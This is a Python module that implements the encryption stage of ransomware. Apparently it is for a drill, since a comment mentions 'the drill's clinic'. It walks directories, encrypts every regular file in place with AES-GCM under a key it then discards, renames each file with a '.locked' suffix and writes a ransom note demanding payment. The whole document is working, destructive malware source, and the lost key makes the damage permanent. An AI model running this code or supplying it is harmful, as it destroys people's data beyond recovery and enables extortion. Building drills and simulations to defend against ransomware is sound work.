"""What a thief does who wants ransom: every file that he reaches is encrypted in its place, under a key of his own."""

from __future__ import annotations

import os
from collections.abc import Iterable
from pathlib import Path
from typing import Final

import msgspec
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ENDING: Final = ".locked"
_NOTE: Final = "READ_ME.txt"
_WORDS: Final = b"Your files are encrypted. Pay.\n"


class Locked(msgspec.Struct, frozen=True):
    """How much he got."""

    files: int
    bytes: int


def encrypt(places: Iterable[Path]) -> Locked:
    """Encrypts, overwrites and renames every file below `places`. The key is gone when this returns: the drill's clinic
    does not pay, and nobody could give it back."""
    cipher = AESGCM(AESGCM.generate_key(bit_length=256))
    files = size = 0
    for place in places:
        for directory, _, names in os.walk(place):
            for name in names:
                path = Path(directory) / name
                if path.is_symlink() or not path.is_file():
                    continue
                plain = path.read_bytes()
                nonce = os.urandom(12)
                path.write_bytes(nonce + cipher.encrypt(nonce, plain, None))
                path.rename(path.with_name(name + ENDING))
                files, size = files + 1, size + len(plain)
        (place / _NOTE).write_bytes(_WORDS)
    return Locked(files, size)
